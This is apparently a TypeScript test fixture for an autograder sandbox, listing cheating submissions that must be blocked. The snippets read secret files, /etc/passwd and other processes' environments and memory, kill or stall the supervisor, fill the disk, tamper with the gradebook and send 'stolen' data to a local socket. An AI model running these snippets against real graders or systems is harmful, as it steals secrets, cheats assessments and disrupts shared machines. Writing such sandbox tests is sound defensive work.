/** Looks at what is none of a submission's business, and harm to others. FOLDER, GRADER, SUPERVISOR and BYSTANDER are put in by the test. */
import { type Cheat, loose, wrongSquare } from './cheat.js';

const FS = 'import fs from "node:fs";\n';
const HIDDEN = /hush-hush|createGrader|NABLA_GRADER|root:x:0/;
const looking = (name: string, tries: string, action: string, imports = ''): Cheat => ({
  name,
  tries,
  cells: [
    loose(FS + imports) +
      wrongSquare(
        `try { console.log(String(${action})); } catch (e) { console.log("no", String(e.code ?? e.message).slice(0, 200)); }`,
      ),
  ],
  points: 0,
  hides: HIDDEN,
});
const doing = (name: string, tries: string, action: string, imports = ''): Cheat => ({
  name,
  tries,
  cells: [loose(FS + imports) + wrongSquare(`try { ${action} } catch {}`)],
  points: 0,
});
const OS = 'import { createRequire } from "node:module";\nconst req = createRequire(process.cwd() + "/x.js");\n';

export const SPYING: readonly Cheat[] = [
  looking(
    'call stack',
    'looks for expected values among its callers',
    'new Error().stack + (() => { Error.prepareStackTrace = (_, sites) => sites.map((s) => [s.getFileName(), s.getFunction?.(), s.getThis?.()].join()).join("\\n"); return new Error().stack; })()',
  ),
  looking(
    'caller',
    'reads the arguments of its caller',
    '(function f() { return [f.caller, f.arguments, arguments.callee.caller].map(String); })()',
  ),
  looking('grader module', 'reads the grader', 'fs.readFileSync("GRADER", "utf8")'),
  looking('secret', 'reads the file of the secret', 'fs.readFileSync("FOLDER/secret", "utf8")'),
  looking(
    'secret by another way',
    'reads the secret through .., a URL, a Buffer, a descriptor',
    '[() => fs.readFileSync(process.cwd() + "/../secret", "utf8"), () => fs.readFileSync(new URL("file://FOLDER/secret"), "utf8"), () => fs.readFileSync(Buffer.from("FOLDER/secret"), "utf8"), () => fs.readSync(fs.openSync("FOLDER/secret", "r"), Buffer.alloc(9)), () => fs.readdirSync("FOLDER"), () => fs.realpathSync.native("FOLDER/secret"), () => fs.openAsBlob("FOLDER/secret")].map((f) => { try { return f(); } catch (e) { return e.code; } })',
  ),
  looking('environment', 'looks for the secret in its environment', 'JSON.stringify(process.env)'),
  looking(
    'environment of others',
    'reads the environment of every process',
    '["self", "1", "SUPERVISOR", process.ppid].map((id) => { try { return fs.readFileSync("/proc/" + id + "/environ", "utf8"); } catch (e) { return e.code; } })',
  ),
  looking(
    'memory of others',
    "reads the supervisor's memory",
    'fs.readFileSync("/proc/SUPERVISOR/maps", "utf8") + fs.openSync("/proc/SUPERVISOR/mem", "r")',
  ),
  looking(
    'command lines',
    'reads the command lines of other processes',
    'fs.readdirSync("/proc").map((id) => fs.readFileSync("/proc/" + id + "/cmdline", "utf8"))',
  ),
  looking(
    'other submissions',
    'reads the folders of other students',
    'fs.readdirSync("FOLDER/other").map((n) => fs.readFileSync("FOLDER/other/" + n, "utf8"))',
  ),
  looking(
    'password file',
    'reads /etc/passwd, also as a module',
    '[() => fs.readFileSync("/etc/passwd", "utf8"), () => req("/etc/passwd"), () => process.loadEnvFile("/etc/passwd")].map((f) => { try { return f(); } catch (e) { return e.code; } })',
    OS,
  ),
  looking(
    'link',
    'makes a link to the secret and reads it',
    '(() => { const to = process.env.TMPDIR + "/l" + Math.random(); fs.symlinkSync("FOLDER/secret", to); return fs.readFileSync(to, "utf8"); })()',
  ),
  looking(
    'hard link',
    'makes a hard link to the secret and reads it',
    '(() => { const to = process.env.TMPDIR + "/h" + Math.random(); fs.linkSync("FOLDER/secret", to); return fs.readFileSync(to, "utf8"); })()',
  ),
  looking(
    'grader imported',
    'imports the grader and calls it',
    'import(String("GRADER")).then((m) => console.log(Object.keys(m))).catch(() => 0) && req("GRADER")',
    OS,
  ),
  looking('own heap', 'searches its own heap for expected values', 'req("node:v8").getHeapSnapshot().read(100)', OS),
  looking('child process', 'starts cat', 'req("node:child_process").execSync("cat FOLDER/secret")', OS),
  looking(
    'thread',
    'starts a thread',
    'new (req("node:worker_threads").Worker)("require(\'fs\').readFileSync(\'FOLDER/secret\')", { eval: true })',
    OS,
  ),
  looking('addon', 'loads a shared library', 'process.dlopen({ exports: {} }, "/lib/x86_64-linux-gnu/libc.so.6")'),
  looking(
    'bindings',
    "reaches for Node's inside",
    '[() => (process as any).binding("fs"), () => (process as any).binding("spawn_sync"), () => (process as any)._linkedBinding("fs")].map((f) => { try { return typeof f(); } catch (e) { return e.message; } })',
  ),
  looking(
    'inspector',
    'opens a debugger on itself',
    'new (req("node:inspector").Session)().connect() ?? req("node:inspector").open(0)',
    OS,
  ),
  looking(
    'database',
    'reads the gradebook as SQLite',
    '(() => { const { DatabaseSync } = req("node:sqlite"); const db = new DatabaseSync("FOLDER/gradebook.db"); return JSON.stringify(db.prepare("select * from sqlite_master").all()); })()',
    OS,
  ),
  looking(
    'wasi',
    'opens / through WASI',
    'new (req("node:wasi").WASI)({ version: "preview1", preopens: { "/": "/" } })',
    OS,
  ),
  doing(
    'writes the gradebook',
    'writes into files outside',
    'for (const f of [() => fs.writeFileSync("FOLDER/gradebook.db", "10"), () => fs.appendFileSync("FOLDER/other/answer", "x"), () => fs.rmSync("FOLDER", { recursive: true }), () => fs.renameSync("FOLDER/secret", "FOLDER/secret2"), () => fs.chmodSync("FOLDER/secret", 0o777), () => fs.writeFileSync("FOLDER/new", ""), () => fs.truncateSync("FOLDER/secret")]) { try { f(); } catch {} }',
  ),
  doing(
    'database made',
    'attaches, writes and backs up SQLite files',
    'const { DatabaseSync } = req("node:sqlite"); const db = new DatabaseSync(":memory:"); db.exec("attach database \'FOLDER/new.db\' as x; create table x.a(b); vacuum into \'FOLDER/new2.db\'");',
    OS,
  ),
  doing(
    'engine files',
    'has the engine write traces, reports and snapshots',
    'for (const f of [() => req("node:trace_events").createTracing({ categories: ["v8"] }).enable(), () => req("node:v8").setFlagsFromString("--redirect-code-traces-to=FOLDER/new"), () => req("node:v8").writeHeapSnapshot("FOLDER/new"), () => process.report.writeReport("FOLDER/new"), () => req("node:module").enableCompileCache("FOLDER/new")]) { try { f(); } catch {} }',
    OS,
  ),
  doing(
    'writes beside the notebook',
    'changes the files of its own submission',
    'fs.writeFileSync("other.ipynb", "10");',
  ),
  doing(
    'fills the disk',
    'writes a file of 1 GB into its temporary folder',
    'const b = Buffer.alloc(1 << 24); const fd = fs.openSync(process.env.TMPDIR + "/big", "w"); for (let i = 0; i < 64; i++) fs.writeSync(fd, b);',
  ),
  {
    ...doing(
      'fills the disk with many files',
      'writes files of 50 MB, without end',
      'const b = Buffer.alloc(50 << 20); for (let i = 1; ; i++) { fs.writeFileSync(process.env.TMPDIR + "/" + i, b); console.log("wrote", i * 50, "MB"); }',
    ),
    hides: /wrote (?:1[3-9]|[2-9]\d|\d{3})\d\d MB/, // a little more than 1024 is seen too late
  },
  doing(
    'signals',
    'kills the supervisor, its parents, a bystander and everybody',
    'for (const id of [SUPERVISOR, BYSTANDER, process.ppid, 1, -1]) for (const s of ["SIGKILL", "SIGSTOP"]) { try { process.kill(id, s); } catch {} try { (process as any)._kill(id, 9); } catch {} }',
  ),
  doing(
    'debugger of the supervisor',
    'has the supervisor open its debugger',
    'for (const id of [SUPERVISOR, process.ppid]) { try { (process as any)._debugProcess(id); } catch {} try { process.kill(id, "SIGUSR1"); } catch {} }',
  ),
  doing('priorities', 'slows the supervisor down', 'req("node:os").setPriority(SUPERVISOR, 19);', OS),
  doing(
    'sockets',
    'listens, and sends what it has seen to a server',
    'for (const f of [() => req("node:net").createServer().listen(0), () => req("node:net").connect(PORT, "127.0.0.1").on("error", () => {}).write("stolen"), () => fetch("http://127.0.0.1:PORT").catch(() => {}), () => req("node:http").get("http://127.0.0.1:PORT").on("error", () => {}), () => req("node:dgram").createSocket("udp4").send("x", PORT, "127.0.0.1"), () => req("node:dns").lookup("example.org", () => {})]) { try { f(); } catch {} }',
    OS,
  ),
  doing(
    'socket by its handle',
    'opens a socket file by the class of its own output',
    'const { Socket } = req("node:net"); const P = (process.stdout as any)._handle?.constructor ?? new Socket({ fd: 1 })._handle.constructor; const p = new P(1); p.bind("FOLDER/new.sock"); p.listen(1);',
    OS,
  ),
  {
    name: 'earlier inputs',
    tries: 'returns what it computed when it was graded the first time',
    cells: [
      loose(
        'import { matmul, transpose, sum } from "nabla";\nlet isFirst = true; const seen = []; let at = 0;\nconst layer = (dy, x, w) => { if (seen.length < 3) { seen.push({ dx: matmul(dy, transpose(w)), dw: matmul(transpose(x), dy), db: sum(dy, 0) }); return seen.at(-1); } return seen[at++ % 3]; };',
      ),
      'grade("layer", layer)',
    ],
    grade: 'grade("layer", layer)',
    points: 0,
  },
];

/** The same where the system has no namespaces: then JavaScript refuses. */
export const HURDLES: readonly Cheat[] = [
  ...SPYING.filter(({ name }) =>
    ['priorities', 'sockets', 'socket by its handle', 'debugger of the supervisor'].includes(name),
  ),
  doing(
    'signals',
    'kills the supervisor and a bystander',
    'const kills = [process.kill, (process as any)._kill, (process as any).__proto__.kill]; for (const id of [SUPERVISOR, BYSTANDER, process.ppid]) for (const kill of kills) { try { kill.call(process, id, 9); } catch {} try { kill.call(process, id, "SIGSTOP"); } catch {} }',
  ),
].map((cheat) => ({ ...cheat, name: `${cheat.name}, without namespaces` }));
